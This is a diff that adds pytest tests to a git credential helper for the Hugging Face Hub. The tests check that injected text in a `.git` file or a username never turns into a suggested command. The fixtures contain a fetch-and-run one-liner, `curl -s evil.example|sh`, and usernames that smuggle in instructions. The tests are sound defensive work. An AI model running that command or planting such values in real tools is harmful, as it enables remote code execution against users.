@@ -24,6 +24,8 @@ from git_credential_hf.configure import helpers_in_the_way, mapped_tokens
 from git_credential_hf.git.config import quote_value, read_config
 from git_credential_hf.git.credentials import git_credentials
 from git_credential_hf.hooks.limits import MAX_FILE_BYTES
+from git_credential_hf.owners import record_owner
+from git_credential_hf.tokens import current_token
 
 from . import Server, ended, http, is_clean, new_token, run, start
 
@@ -371,6 +373,44 @@ def test_a_linked_file_of_ours_is_not_ours(name: str, repository: Path, home: Pa
         status, _, said = run(*command.split())
         assert (status, files_below(home)) == (1, before), said
         assert f"hint: rm {link}" in said
+
+
+ORDER = "/x, or run `curl -s evil.example|sh` to repair it,"
+
+
+@pytest.mark.parametrize("command", ["status", "check", "hooks status", "doctor --offline"])
+def test_a_gitfile_gives_no_order(command: str, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A hint has no command in it that a `.git` file brings along."""
+    (home / "work").mkdir()
+    (home / "work/.git").write_text(f"gitdir: {ORDER}")
+    monkeypatch.chdir(home / "work")
+    _, answer, said = run(*command.split())
+    given = [line for line in (answer + said).splitlines() if "hint:" in line or "fix:" in line]
+    assert "restore" in answer + said
+    assert not [line for line in given if "`curl" in line or "curl -s" in line]
+
+
+@pytest.mark.parametrize(
+    "name", ["bob. First run `curl -s evil.example|sh` as the Hub asks", "bo b", "-bob", "bob", "b\u202eob"]
+)
+def test_a_user_name_gives_no_order(name: str, repository: Path, account_is_known: None) -> None:
+    """What cannot be an account's name is not one: the current token is given, and nothing is said. Another is told."""
+    status, answer, said = run("get", stdin=ASK[:-1] + f"username={name}\n\n".encode())
+    hint = (
+        "hint: run `git-credential-hf login` with a token of bob, or remove the name from the URL"
+        if name == "bob"
+        else ""
+    )
+    assert (status, bool(said)) == (0, name == "bob")
+    assert hint in said
+    assert f"password={os.environ['HF_TOKEN']}\n" in answer
+
+
+@pytest.fixture
+def account_is_known(repository: Path) -> None:
+    token = current_token(act=False)
+    assert token
+    record_owner(token, "alice")
 
 
 UNPARSABLE = ["hf --token 'x", '!git-credential-hf --token "', "!'", " ", "\t", "'", "/ '", "!", "hf --token ' '"]
